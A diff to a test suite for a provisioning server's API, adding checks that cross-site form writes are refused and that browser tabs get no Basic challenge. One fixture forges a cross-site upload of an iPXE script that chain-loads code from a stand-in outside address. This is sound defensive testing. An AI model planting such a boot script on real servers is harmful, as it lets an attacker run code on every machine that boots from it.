@@ -145,12 +145,15 @@ describe("session", () => {
     expect((await withCookie("DELETE", `/api/v3/machines/${uuid}`, cookie)).status).toBe(200);
   });
 
-  test("a cross-site form post (no cookie: SameSite) is a 401 without a Basic challenge for UI requests", async () => {
+  test("a cross-site form post (no cookie: SameSite) is refused before authentication, with no Basic challenge; UI requests get none either", async () => {
     // What a foreign page's form can send: a form body, no custom header, and (SameSite=Strict) no cookie.
     const r = await s.req("POST", "/api/v3/machines", { auth: null, raw: "Name=evil", type: "application/x-www-form-urlencoded", headers: { Origin: "https://evil.example" } });
-    expect(r.status).toBe(401);
+    expect(r.status).toBe(403);
+    expect(r.headers.get("www-authenticate")).toBeNull();
     // The API's own clients still get the challenge; the UI's requests do not.
-    expect(r.headers.get("www-authenticate")).toContain("Basic");
+    const plain = await s.req("POST", "/api/v3/machines", { auth: null, body: { Name: "x" } });
+    expect(plain.status).toBe(401);
+    expect(plain.headers.get("www-authenticate")).toContain("Basic");
     const ui = await s.req("GET", "/api/v3/machines", { auth: null, headers: { "X-Socle-UI": "1" } });
     expect(ui.status).toBe(401);
     expect(ui.headers.get("www-authenticate")).toBeNull();
@@ -239,5 +242,39 @@ describe("session", () => {
     expect((await s.call("POST", "/api/v3/prefs", { body: { uiSessionTimeout: "90000", maxTokenTtl: "7200" } })).status).toBe(200);
     expect((await login()).setCookie).toContain("Max-Age=7200");
     expect((await s.call("POST", "/api/v3/prefs", { body: { uiSessionTimeout: "28800", maxTokenTtl: "86400" } })).status).toBe(200);
+  });
+});
+
+describe("writes from another site", () => {
+  // A browser that once answered the Basic dialog sends those credentials with any site's form:
+  // the Origin and Sec-Fetch-Site it adds decide, whatever the credential.
+  test("refused with 403 before anything is written, for cached Basic credentials and a session cookie alike, on routes that take any body", async () => {
+    const { cookie } = await login();
+    const tries: { name: string; headers: Record<string, string> }[] = [
+      { name: "foreign Origin", headers: { Origin: "https://evil.example" } },
+      { name: "Sec-Fetch-Site cross-site", headers: { "Sec-Fetch-Site": "cross-site" } },
+      { name: "Sec-Fetch-Site same-site (another port of this host)", headers: { "Sec-Fetch-Site": "same-site" } },
+      { name: "Origin null (a sandboxed page)", headers: { Origin: "null" } },
+    ];
+    for (const t of tries) {
+      const basic = await s.req("POST", "/api/v3/files/csrf/evil.ipxe", { body: "#!ipxe\nchain http://203.0.113.66/x\n", headers: { ...t.headers, "Content-Type": "text/plain" } });
+      expect({ t: t.name, status: basic.status }).toEqual({ t: t.name, status: 403 });
+      expect(((await basic.json()) as { Messages: string[] }).Messages.join(" ")).toContain("from another site refused");
+      const viaCookie = await s.req("POST", "/api/v3/profiles", { auth: null, body: { Name: "csrf" }, headers: { ...t.headers, Cookie: `__Host-socle-session=${cookie}`, "X-Socle-UI": "1" } });
+      expect({ t: t.name, status: viaCookie.status }).toEqual({ t: t.name, status: 403 });
+    }
+    expect((await s.req("GET", "/api/v3/files/csrf/evil.ipxe")).status).toBe(404);
+    expect((await s.req("GET", "/api/v3/profiles/csrf")).status).toBe(404);
+    // This server's own pages, and clients that are not browsers (no Origin, no Sec-Fetch-Site), write.
+    const own = await s.req("POST", "/api/v3/profiles", { body: { Name: "own-origin" }, headers: { Origin: s.base, "Sec-Fetch-Site": "same-origin" } });
+    expect(own.status).toBe(201);
+    expect((await s.req("POST", "/api/v3/profiles", { body: { Name: "plain-client" } })).status).toBe(201);
+  });
+
+  test("a page opened in a browser tab gets no Basic challenge (the browser would cache what the operator types)", async () => {
+    const r = await s.req("GET", "/api/v3/machines", { auth: null, headers: { "Sec-Fetch-Mode": "navigate" } });
+    expect(r.status).toBe(401);
+    expect(r.headers.get("www-authenticate")).toBeNull();
+    expect((await s.req("GET", "/api/v3/machines", { auth: null })).headers.get("www-authenticate")).toContain("Basic");
   });
 });
